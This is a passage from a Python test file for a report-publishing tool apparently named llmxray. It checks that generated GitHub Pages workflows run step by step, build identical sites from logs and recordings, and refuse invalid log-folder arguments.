            if "run" in step and step["name"] != "Install":
                code, told = shell_run(step["run"], repository, environment, asked, said)
                assert code == 0, step["name"] + told
                ran.append(step["name"])
    finally:
        os.close(asked)
        os.close(said)
    return ran


def shell_run(script: str, at: Path, environment: dict[str, str], asked: int, said: int) -> tuple[int, str]:
    """The exit code of a script, and what its commands printed."""
    told, at_least_one = "", False
    with subprocess.Popen(["bash", "-e", "-c", script], cwd=at, env=environment) as shell:
        while shell.poll() is None:
            if select.select([asked], [], [], 0.02)[0]:
                # A command writes all of it at once.
                count, folder, *words = os.read(asked, select.PIPE_BUF).decode().split("\0")[:-1]
                assert int(count) == len(words)
                done = llmxray(*words, at=Path(folder))
                told, at_least_one = told + done.stdout + done.stderr, True
                os.write(said, f"{done.returncode}\n".encode())
    assert at_least_one, script
    return shell.returncode, told


@pytest.mark.parametrize(("name", "steps"), [("pages.yml", 4), ("release.yml", 6)])
def test_every_step_of_a_workflow_runs_here(tmp_path: Path, name: str, steps: int) -> None:
    """The commands of the file, one after the other."""
    repository = tmp_path / "mine"
    repository.mkdir()
    where = record(repository, SHORT)
    (where.experiments / "site.yaml").write_text("title: Mine\n")
    assert len(steps_run(repository, github_pages.workflow_text(repository, name, "llmxray"))) == steps
    assert (repository / "site" / "tiny" / "index.html").exists()
    if name == "release.yml":
        assert (repository / "tiny.xray.zip").exists()
    # On Pages it is one of the files that are published.
    zipped = repository / ("site" if name == "pages.yml" else "") / lesson.ZIP
    with zipfile.ZipFile(zipped) as archive:
        assert "report-site/tiny/index.html" in archive.namelist()


LOG = "a log's $HOME: 1 #2.json"


def repository_of_logs(tmp_path: Path, folder: str = "logs") -> Path:
    """A folder that holds a log of another tool and nothing else."""
    repository = tmp_path / "mine"
    (repository / folder).mkdir(parents=True)
    samples = [made_files.inspect_sample(k, "AB"[k % 2]) for k in range(5)]
    log = made_files.inspect_log(samples, model="org/small")
    (repository / folder / LOG).write_text(json.dumps(log))
    return repository


TO_INSTALL = ("--install", "git+https://example.org/llmxray")


@pytest.mark.parametrize("given", ["logs", f"logs/{LOG}", "-logs"])
def test_a_site_of_logs_is_published_from_its_logs(tmp_path: Path, given: str) -> None:
    """Every step of its workflow runs in a clone that has what the advice names, and builds the same site."""
    repository = repository_of_logs(tmp_path, given.partition("/")[0])
    built = llmxray("report", "--bins", "7", "--", given, at=repository)
    assert built.returncode == 0, built.stderr
    # The site knows a file's name, and not its folder.
    logs = ("--logs", given) if "/" in given else ()
    done = llmxray("publish", *TO_INSTALL, *logs, at=repository)
    assert done.returncode == 0, done.stderr
    as_argument = "./" * given.startswith("-") + given
    assert f"now commit .github and {as_argument}, push, and choose Pages" in done.stdout
    clone = tmp_path / "clone"
    shutil.copytree(repository, clone, ignore=shutil.ignore_patterns("site"))
    assert steps_run(clone, (clone / github_pages.WORKFLOWS / "pages.yml").read_text("utf-8")) == [
        "Build the site from the files of other tools",
        "Check the site for Pages, and put all of it into one zip beside its pages",
    ]
    for name in (
        "index.html",
        *(f"read-sums/{each}" for each in ("index.html", "figures.json", "calibration.html")),
    ):
        assert (clone / "site" / name).read_text("utf-8") == (repository / "site" / name).read_text("utf-8")


def test_a_site_of_recordings_and_logs_is_published_from_both(tmp_path: Path) -> None:
    """One workflow for all that it shows; built from recordings only again, it is written again."""
    repository = repository_of_logs(tmp_path)
    record(repository, SHORT)
    assert llmxray("run", "--all", at=repository).returncode == 0
    path, _ = github_pages.write_workflow(repository, source="git+https://example.org/llmxray")
    assert llmxray("report", "logs", at=repository).returncode == 0
    done = llmxray("publish", at=repository)
    assert done.returncode == 0, done.stderr
    assert "now commit .github, experiments, cassettes and logs, push" in done.stdout
    text = path.read_text("utf-8")
    assert "pip install git+https://example.org/llmxray\n" in text
    shutil.rmtree(repository / "site")
    assert len(steps_run(repository, text)) == 5
    assert {each.parent.name for each in repository.glob("site/*/summary.json")} == {"tiny", "read-sums"}
    assert llmxray("publish", at=repository).stdout.endswith("pages.yml: as it was\n")
    shutil.rmtree(repository / "site" / "read-sums")
    assert llmxray("report", at=repository).returncode == 0
    assert "pages.yml: written" in llmxray("publish", at=repository).stdout
    assert "of other tools" not in path.read_text("utf-8")


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, ...], Path]:
    """Repositories with a site, by what it was built of; not to be changed."""
    made: dict[tuple[str, ...], Path] = {}
    for built_of in (("logs",), ("logs/" + LOG,), ()):
        made[built_of] = repository = repository_of_logs(tmp_path_factory.mktemp("reports"))
        if not built_of:
            record(repository, SHORT)
        assert llmxray("report", *built_of, at=repository).returncode == 0
    return made


@pytest.mark.parametrize(
    ("report", "publish", "said"),
    [
        (("logs/" + LOG,), (), "not in .: name what holds them in the repository: --logs FOLDER"),
        (("logs",), ("--logs", "nowhere"), "nowhere: there is no such file or folder"),
        (("logs",), ("--logs", ".."), "not in the repository .: copy it there"),
        (("logs",), ("--logs", "."), "put the files into a folder of their own"),
        (("logs",), ("--release",), "--release packs recordings, and this site has none"),
        (("logs",), ("--check", "--logs", "logs"), "leave it out"),
        ((), ("--logs", "logs"), "nothing on site was built from files of other tools"),
    ],
)
def test_a_workflow_that_could_not_build_the_site_is_refused(
    reports: dict[tuple[str, ...], Path],
    tmp_path: Path,
    report: tuple[str, ...],
    publish: tuple[str, ...],
    said: str,
) -> None:
    """In one line that says what to do; nothing is written."""
    repository = shutil.copytree(reports[report], tmp_path / "mine")
    done = llmxray("publish", *TO_INSTALL, *publish, at=repository)
    assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr
    assert said in done.stderr
    assert not (repository / ".github").exists()
